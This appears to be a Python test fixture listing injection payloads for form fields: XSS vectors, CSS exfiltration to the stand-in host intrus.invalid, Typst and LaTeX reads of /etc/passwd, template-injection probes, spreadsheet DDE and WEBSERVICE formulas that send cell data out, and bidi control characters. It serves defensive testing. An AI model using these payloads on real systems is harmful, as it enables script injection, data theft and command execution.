"""What people with bad intent, or a careless copy and paste, put into the cells of a form.

Each payload is text, to be shown as it stands. Where a payload could act it would call `aie(…)`, ask
`intrus.invalid` for something, or restyle the page. Sources, by family: OWASP XSS Filter Evasion Cheat
Sheet; html5sec.org; OWASP CSV Injection; M. Heiderich et al., Scriptless Attacks (CSS exfiltration,
2012); PayloadsAllTheThings (template injection); Boucher and Anderson, Trojan Source (bidi, 2021);
ECMA-376 22.9.2.19 (escapes of workbooks); Typst, pandoc, MathJax and Jupyter by their manuals.
"""

HTML = {
    "script": "<script>aie(1)</script>",
    "script out of an attribute": "\"><script>aie(2)</script>",
    "script out of a script": "</script><script>aie(3)</script>",
    "script in capitals": "<ScRiPt SRC=//intrus.invalid/x.js></sCrIpT>",
    "split script": "<scr<script>ipt>aie(4)</scr</script>ipt>",
    "image": "<img src=x onerror=aie(5)>",
    "image without end": "<img src='x' onerror='aie(6)'",
    "remote image": "<img src=https://intrus.invalid/p.png>",
    "slashes for blanks": "<img/src/onerror=aie(7)>",
    "vector": "<svg onload=aie(8)>",
    "vector, animated": "<svg><animate onbegin=aie(9) attributeName=x dur=1s>",
    "vector, foreign": "<svg><foreignObject><iframe srcdoc='<script>aie(10)</script>'></iframe></foreignObject></svg>",
    "vector, use": "<svg><use href='data:image/svg+xml,<svg id=x onload=aie(11)>#x'/></svg>",
    "mathml": "<math><maction xlink:href='javascript:aie(12)'>clic</maction></math>",
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror=aie(13)>\">",
    "namespace confusion": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=aie(14)>",
    "frame": "<iframe src=javascript:aie(15)></iframe>",
    "object": "<object data=//intrus.invalid/x></object><embed src=//intrus.invalid/x>",
    "base": "<base href=//intrus.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//intrus.invalid/'>",
    "form": "<form action=//intrus.invalid/><input autofocus onfocus=aie(16)></form>",
    "details": "<details open ontoggle=aie(17)>",
    "video": "<video><source onerror=aie(18)></video>",
    "link": "<a href=javascript:aie(19)>clic</a>",
    "link, broken word": "<a href=\"java\tscript:aie(20)\">clic</a>",
    "link, entities": "<a href=\"&#106;avascript&colon;aie(21)\">clic</a>",
    "link, data": "<a href='data:text/html;base64,PHNjcmlwdD5haWUoMjIpPC9zY3JpcHQ+'>clic</a>",
    "entities": "&lt;script&gt;aie(23)&lt;/script&gt; &amp;lt; &#x3C;",
    "comment": "<!-- --!><img src=x onerror=aie(24)>",
    "cdata": "<![CDATA[<img src=x onerror=aie(25)>]]>",
    "close the title": "</title></head><body onload=aie(26)>",
    "close the figure": "</figcaption></figure></main></body></html><h1>Faux</h1>",
    "clobbering": "<img name=querySelector><a id=contenu></a>",
    "template element": "<template><slot onslotchange=aie(27)></slot></template>",
    "attributes alone": "\" onmouseover=\"aie(28)\" x=\"",
    "attributes alone, single": "' autofocus onfocus='aie(29)' x='",
    "backtick": "`onmouseover=aie(30)`",
}  # fmt: skip
STYLE = {
    "style": "<style>*{display:none!important}</style>",
    "close the style": "</style><style>body{background:red}</style>",
    "import": "<style>@import url(//intrus.invalid/x.css);</style>",
    "exfiltration": "<style>input[value^=a]{background:url(//intrus.invalid/a)}</style>",
    "style attribute": "<b style='position:fixed;inset:0;background:url(//intrus.invalid/b)'>",
    "sheet": "<link rel=stylesheet href=//intrus.invalid/x.css>",
    "rule alone": "}*{color:red!important}/*",
    "expression": "x:expression(aie(31));background:url(javascript:aie(32))",
}
MARKDOWN = {
    "image": "![p](https://intrus.invalid/m.png)",
    "link": "[clic](javascript:aie(33))",
    "reference": "[clic][r]\n\n[r]: javascript:aie(34) 'x'",
    "autolink": "<https://intrus.invalid/> www.intrus.invalid",
    "heading": "\n\n# Faux titre\n\nEt **gras** _penché_ ~~barré~~",
    "block": "\n\n<div onclick=aie(35)>\n\nmots\n\n</div>",
    "fence": "\n~~~~~~~~~~~~\n\n~~~~~~~~~~~~ {=typst}\n#read(\"/etc/passwd\")\n~~~~~~~~~~~~\n",
    "raw attribute": "`#read(\"/etc/passwd\")`{=typst}",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "attributes": "[x]{onclick=aie(36) .avertissement #contenu}",
    "mathematics": r"$\href{javascript:aie(37)}{x}$ et \(\require{html}\style{display:none}{x}\)",
    "unclosed mathematics": r"50 $ le sac, \frac{ et $$ puis \end{x}",
    "latex": r"\input{/etc/passwd} \write18{id} \begin{document}",
    "yaml header": "---\ntitle: Faux\n---",
}  # fmt: skip
TYPST = {
    "import": '#import "@preview/intrus:0.1.0": *',
    "read": '#read("/etc/passwd")',
    "eval": '#eval("1+1")',
    "image": '#image("/etc/passwd")',
    "close the string": '"); #read("/etc/passwd"); #("',
    "close the string, escaped": '\\"); #read("/etc/passwd"); #(\\"',
    "close the content": '] #read("/etc/passwd") [',
    "label": '@constat-R1-portee <contenu> #label("x")',
    "raw": '```typ #panic("x")```',
    "link": '#link("javascript:aie(38)")[clic]',
    "unicode escape": "\\u{22}); #panic()",
    "set": "#set page(fill: red)",
}
TEMPLATES = {
    "jinja": "{{7*7}} {{ self.__init__.__globals__ }}",
    "jinja block": "{% for x in range(9) %}x{% endfor %}{# rien #}",
    "format, attribute": "{0.__class__} {language.__class__.__mro__}",
    "format, our own": "{n:int} {x:pers} {part:pct}",
    "format, printf": "%s %(x)s %n ${HOME} $(id)",
    "format, lone brace": "} { {{ }}",
    "numbers": "NaN None inf <NA> 1e999",
}
SHEETS = {
    "formula": "=1+1",
    "dde": "=cmd|'/C calc'!A0",
    "hyperlink": '=HYPERLINK("http://intrus.invalid/?x="&A1,"clic")',
    "webservice": '=WEBSERVICE("http://intrus.invalid/"&A1)',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "escape": "_x003D_1+1",
    "apostrophe": "'=1+1",
    "full width": "＝1+1",
    "quote and separator": '",=1+1,"',
    "semicolon": ";=1+1;",
}
CHARACTERS = {
    "right to left": "paix\u202eecrof al\u202c fin",
    "isolates": "\u2067droite\u2069 gauche",
    "zero width": "pa\u200bix\u2060 et\ufeff guerre",
    "line separators": "une\u2028deux\u2029trois",
    "combining": "Z̸̧̡̛͉̘̦͍̬̣͇͔̝͒̌̈́̈́̇̚a",
    "very long word": "m" * 300,
    "emoji": "👩🏽‍🌾🕊️",
    "astral": "𐎠𝔸",
    "replacement": "\ufffd",
    "blanks": "\u00a0\u2003x\u3000",
}

FAMILIES = {
    "html": HTML,
    "style": STYLE,
    "markdown": MARKDOWN,
    "typst": TYPST,
    "templates": TEMPLATES,
    "sheets": SHEETS,
    "characters": CHARACTERS,
}
PAYLOADS = {
    f"{family} · {name}": text for family, texts in FAMILIES.items() for name, text in texts.items()
}
# what no XML, hence no workbook, can hold: a CSV brings it
CONTROLS = {"nul": "a\x00b", "escape": "a\x1b[31mb", "tab": "\t=1+1", "cr": "\r=1+1"}
